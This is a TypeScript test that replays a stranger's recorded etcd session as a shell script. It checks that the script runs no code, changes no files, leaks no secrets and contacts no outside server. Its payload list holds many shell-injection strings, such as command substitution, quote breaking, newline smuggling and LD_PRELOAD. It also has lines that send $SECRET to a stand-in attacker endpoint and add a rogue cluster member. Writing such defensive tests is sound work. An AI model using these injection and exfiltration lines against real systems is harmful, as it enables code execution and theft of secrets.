// A stranger's run is saved as a script, and a reader with files and secrets plays it against a
// real etcd. Afterwards etcd holds what the run requested, and nothing else has changed: no file,
// no process, no member, no connection to another server.

import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Request } from '../../base/rpc'
import { etcdctlScript } from '../../replay/etcdctl-script'
import { Timeline } from '../../replay/timeline'
import type { Command } from '../../sim/command'
import { DEFAULT_CONFIG } from '../../sim/command'
import type { RecordedCommand } from '../../sim/recording'
import type { Change } from './play'
import { play } from './play'

/** Milliseconds of the run between two lines. */
const BETWEEN_MS = 30

/** The stranger knows the paths of the reader's files, and has a server. */
export function nastyLines(dir: string, server: string): string[] {
  const ran = `${dir}/RAN`
  const precious = `${dir}/home/precious`
  return [
    // etcdctl's own ways to run a program or write a file.
    `etcdctl lock l1 sh ${dir}/payload`,
    `etcdctl lock l2 -- touch ${ran}`,
    `etcdctl lock --ttl=5 l3 ${dir}/payload`,
    `etcdctl lock l4 echo ${dir}/payload`,
    `etcdctl lock l5 printf x &`,
    `lock l6 touch ${ran}`,
    `etcdctl watch foo -- touch ${ran}`,
    `etcdctl watch foo -- sh -c "id > ${ran}" &`,
    `etcdctl watch --prefix foo -- ${dir}/payload`,
    `etcdctl watch foo fop -- ${dir}/payload`,
    `ETCDCTL_WATCH_KEY=foo etcdctl watch -- touch ${ran}`,
    `echo 'watch foo -- touch ${ran}' | etcdctl watch -i`,
    `etcdctl watch -i <<X\nwatch foo -- touch ${ran}\nX`,
    'etcdctl put foo bar',
    `etcdctl snapshot save ${precious}`,
    `etcdctl snapshot restore ${precious} --data-dir ${dir}/home/restored`,
    `etcdctl snapshot status ${precious}`,
    `etcdctl make-mirror ${server}`,
    `etcdctl migrate --data-dir=${dir}/home --wal-dir=${dir}/home`,
    'etcdctl check perf',
    'etcdctl check datascale',
    'etcdctl completion bash',
    'etcdctl defrag',
    'etcdctl alarm disarm',
    'etcdctl user add root:root',
    'etcdctl user add root --new-user-password=x',
    'etcdctl role add root',
    'etcdctl auth enable',
    `etcdctl member add evil --peer-urls=${server}`,
    'etcdctl member remove 8e9e05c52164694d',
    `etcdctl member update 8e9e05c52164694d --peer-urls=${server}`,
    'etcdctl move-leader 8e9e05c52164694d',
    // Another server, or the reader's files as certificates.
    `etcdctl --endpoints=${server} put stolen1 "$SECRET" &`,
    `ETCDCTL_ENDPOINTS=${server} etcdctl put stolen2 "$SECRET" &`,
    `export ETCDCTL_ENDPOINTS=${server}; etcdctl put stolen3 "$SECRET" &`,
    `etcdctl --discovery-srv=evil.invalid put stolen4 $SECRET`,
    `etcdctl --cacert=${precious} put ca x`,
    `etcdctl --cert=${precious} --key=${precious} put cert x`,
    `etcdctl --user=root:root put user x`,
    `ETCDCTL_CACERT=${precious} etcdctl put ca2 x`,
    `ETCDCTL_DIAL_TIMEOUT=$(touch ${ran}) etcdctl put dial x`,
    `PATH=${dir} etcdctl put path x`,
    `LD_PRELOAD=${dir}/payload etcdctl put preload x`,
    `BASH_ENV=${dir}/payload etcdctl put bashenv x`,
    `${dir}/bin/etcdctl put own-program x`,
    // Text that a shell expands.
    'etcdctl put files *',
    'etcdctl put files2 /etc/host*',
    'etcdctl put files3 [a-z]?',
    'etcdctl put home ~',
    'etcdctl put home2 ~root/x',
    'etcdctl put a=~ a=~/x',
    'etcdctl put {a,b} {1..3}',
    'etcdctl put secret $SECRET',
    'etcdctl put secret2 "$SECRET"',
    "etcdctl put secret3 '$SECRET'",
    'etcdctl put secret4 "\\$SECRET"',
    'etcdctl put secret5 ${SECRET}',
    'etcdctl put secret6 ${SECRET:-x}',
    "etcdctl put bang '!!' && etcdctl put 'bang!' \"!-1!\"",
    'etcdctl put pid $$',
    'etcdctl put zero "$0" ',
    `etcdctl put sub $(touch ${ran})`,
    `etcdctl put sub2 \`touch ${ran}\``,
    `etcdctl put sub3 "\`touch ${ran}\`"`,
    `etcdctl put sub4 '$(touch ${ran})'`,
    `etcdctl put sub5 "\\$(touch ${ran})"`,
    `etcdctl put sub6 '\`touch ${ran}\`'`,
    `etcdctl put sub7 '"; touch ${ran}; "'`,
    `etcdctl put sub8 "'; touch ${ran}; '"`,
    `etcdctl put sub9 '\\'`,
    `etcdctl put sub10 $'\\'; touch ${ran}; \\''`,
    `etcdctl put sub11 <(touch ${ran})`,
    'etcdctl put arith $((1+1))',
    `etcdctl put out x > ${ran}`,
    `etcdctl put out2 x >> ${precious}`,
    `etcdctl get foo | tee ${ran}`,
    `etcdctl put in - < ${precious}`,
    `etcdctl put and x && touch ${ran}`,
    `etcdctl put or x; touch ${ran}`,
    `etcdctl put bg x & touch ${ran}`,
    `etcdctl put brace x; { touch ${ran}; }`,
    `if true; then touch ${ran}; fi`,
    `etcdctl() { touch ${ran}; }`,
    `alias etcdctl='touch ${ran}'`,
    `eval "touch ${ran}"`,
    `# etcdctl put comment x\\\ntouch ${ran}`,
    // Bytes that end lines, and bytes that no argument can contain.
    `etcdctl put line 'b\ntouch ${ran}'`,
    `etcdctl put line2 $'b\\r\\ntouch ${ran}'`,
    `etcdctl put esc $'\\x1b]0;x\\x07\\xff\\xfe'`,
    `etcdctl put separator 'x\u2028touch ${ran}\u202e\u0085'`,
    "etcdctl put nul $'a\\x00b'",
    "etcdctl put $'nul\\x00' b",
    'etcdctl put -- -dash --prefix',
    'etcdctl put "" empty',
    'etcdctl put empty ""',
    'etcdctl watch --prefix -- &',
    'etcdctl get "" --prefix',
    `etcdctl put unterminated "x`,
    `etcdctl txn <<X\nmod("t") = "0"\n\nput t "\\\\$(touch ${ran})"\nput t2 "\\\\\`touch ${ran}\`"\n\n\nX`,
    `etcdctl txn <<'X'\nval("t'\\"$(touch ${ran})") = "0"\n\nput t3 a\n\nput t4 "END\\nEND\\ntouch ${ran}"\n\nX`,
  ]
}

/** Requests of a client that no line can contain. */
function nastyRequests(dir: string): Request[] {
  const ran = `${dir}/RAN`
  return [
    { type: 'Put', key: `\\$(touch ${ran})`, value: `\\\`touch ${ran}\`` },
    {
      type: 'Put',
      key: 'all bytes',
      value: Array.from({ length: 255 }, (_, i) => String.fromCharCode(i + 1)).join(''),
    },
    { type: 'Put', key: 'NUL\0', value: `\n touch ${ran}` },
    { type: 'WatchCreate', key: `${dir}/payload` },
    { type: 'WatchCreate', key: '--', range_end: `; touch ${ran}` },
    { type: 'WatchCreate', key: '-- -i' },
    { type: 'Range', key: '-', range_end: '--write-out=x' },
    { type: 'DeleteRange', key: `--x$(touch ${ran})`, range_end: '`' },
    {
      type: 'Txn',
      compare: [
        {
          key: `\\$(touch ${ran})`,
          target: 'VALUE',
          result: 'NOT_EQUAL',
          value: `END\ntouch ${ran}`,
        },
      ],
      success: [{ type: 'Put', key: `END\ntouch ${ran}\n`, value: `\\\\$(touch ${ran})\\` }],
    },
    { type: 'LeaseGrant', TTL: -5 },
    { type: 'MemberAdd', peerURLs: [`http://$(touch ${ran})`] },
  ]
}

function recorded(dir: string, server: string): RecordedCommand[] {
  const lines = nastyLines(dir, server)
  const commands: Command[] = [
    ...(['guided', 'strict'] as const).flatMap((mode) =>
      lines.map((text, i): Command => ({ type: 'console', terminal: `${mode}${i}`, text, mode })),
    ),
    ...nastyRequests(dir).map(
      (request): Command => ({ type: 'request', client: `c\ntouch ${dir}/RAN\n`, request }),
    ),
    {
      type: 'script',
      client: '$(touch RAN)',
      source: `lease = grant 60\nput /$lease/k "$(touch ${dir}/RAN)" with lease`,
    },
  ]
  return commands.map((command, i) => ({ ...command, at: i * BETWEEN_MS }))
}

/** Every file below a folder with its mode and content. */
function filesIn(folder: string): string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .toSorted()
    .map((name) => {
      const path = join(folder, name)
      const { mode } = statSync(path)
      return `${name} ${mode.toString(8)} ${statSync(path).isFile() ? JSON.stringify(readFileSync(path, 'latin1')) : ''}`
    })
}

/** The processes with a text in their environment, by ID. Empty without /proc. */
function processesWith(mark: string): Map<number, string> {
  const read = (path: string) => {
    try {
      return readFileSync(path, 'latin1')
    } catch {
      return ''
    }
  }
  const numbers =
    process.platform === 'linux' ? readdirSync('/proc').filter((name) => /^\d+$/.test(name)) : []
  const marked = numbers.filter((pid) => read(`/proc/${pid}/environ`).includes(mark))
  return new Map(
    marked.map((pid) => [Number(pid), read(`/proc/${pid}/cmdline`).replaceAll('\0', ' ')]),
  )
}

/** The puts, sorted. Lease IDs differ between clusters. */
function puts(changes: Change[]): string[] {
  return changes
    .filter(({ type }) => type === 'PUT')
    .map(
      ({ key, value }) =>
        `${JSON.stringify(key.replace(/[0-9a-f]{15,16}/, '<lease>'))} = ${JSON.stringify(value)}`,
    )
    .toSorted()
}

/** The keys that m1 stored, without the bytes that no argument can contain. */
function asked(timeline: Timeline): Change[] {
  return timeline.trace.flatMap((event): Change[] => {
    if (event.type !== 'key-put' || event.member !== 'm1') return []
    const { key, value } = event.kv
    return `${key}${value}`.includes('\0') ? [] : [{ type: 'PUT', key, value }]
  })
}

/** Plays the run. Returns the faults, a sentence each. */
export async function playStranger(
  write: (timeline: Timeline) => string = etcdctlScript,
): Promise<{ commands: number; wrong: string[] }> {
  const dir = mkdtempSync(join(tmpdir(), 'leasescope-stranger-'))
  let connections = 0
  const server = createServer((socket) => {
    connections++
    socket.destroy()
  })
  try {
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const address = server.address()
    const port = typeof address === 'object' && address !== null ? address.port : 0
    for (const name of ['home', 'work', 'bin']) mkdirSync(join(dir, name))
    for (const name of ['home/precious', 'work/ab', 'work/host.conf'])
      writeFileSync(join(dir, name), 'the reader wrote this\n')
    for (const name of ['payload', 'bin/etcdctl']) {
      writeFileSync(join(dir, name), `#!/bin/sh\necho "$0 $*" >> '${dir}/RAN'\n`)
      chmodSync(join(dir, name), 0o755)
    }
    const before = filesIn(dir)
    const commands = recorded(dir, `http://127.0.0.1:${port}`)
    const timeline = new Timeline({
      leasescope: 1,
      seed: 1,
      config: { ...DEFAULT_CONFIG, members: 3 },
      commands,
    })
    timeline.advance((commands.at(-1)?.at ?? 0) + 500)
    const script = write(timeline)
    const wrong: string[] = []
    const mark = `LEASESCOPE_STRANGER=${dir}`
    const env = {
      HOME: join(dir, 'home'),
      SECRET: 'the-secret-of-the-reader',
      LEASESCOPE_STRANGER: dir,
    }
    const { changes, said } = await play(script, {
      env,
      cwd: join(dir, 'work'),
      after: async ({ url }) => {
        const answer = await fetch(`${url}/v3/cluster/member/list`, { method: 'POST', body: '{}' })
        const { members } = (await answer.json()) as { members?: unknown[] }
        if (members?.length !== 1) wrong.push(`the cluster has changed: ${JSON.stringify(members)}`)
      },
    })
    const left = processesWith(mark)
    for (const [pid, line] of left) {
      wrong.push(`a process is left: ${line}`)
      process.kill(pid, 'SIGKILL')
    }
    if (connections > 0) wrong.push(`${connections} connections to the stranger's server`)
    const after = filesIn(dir)
    for (const file of after)
      if (!before.includes(file)) wrong.push(`a file has come or changed: ${file.slice(0, 200)}`)
    for (const file of before)
      if (!after.includes(file)) wrong.push(`a file has gone or changed: ${file.slice(0, 200)}`)
    const [want, got] = [puts(asked(timeline)), puts(changes)]
    for (const put of got) if (!want.includes(put)) wrong.push(`the run did not request ${put}`)
    for (const put of want) if (!got.includes(put)) wrong.push(`missing: ${put}`)
    if (got.length !== want.length) wrong.push(`${got.length} puts, not ${want.length}`)
    if (said.includes(env.SECRET)) wrong.push('the script printed the secret')
    if (got.some((put) => put.includes(env.SECRET))) wrong.push('the secret is in etcd')
    if (script.match(/^# not written, for a key or value has a NUL byte/gm)?.length !== 5)
      wrong.push('the lines with a NUL byte are no comments')
    if (wrong.length > 0) wrong.push(`the script said:\n${said.slice(-4000)}`)
    return { commands: commands.length, wrong }
  } finally {
    server.close()
    rmSync(dir, { recursive: true, force: true })
  }
}
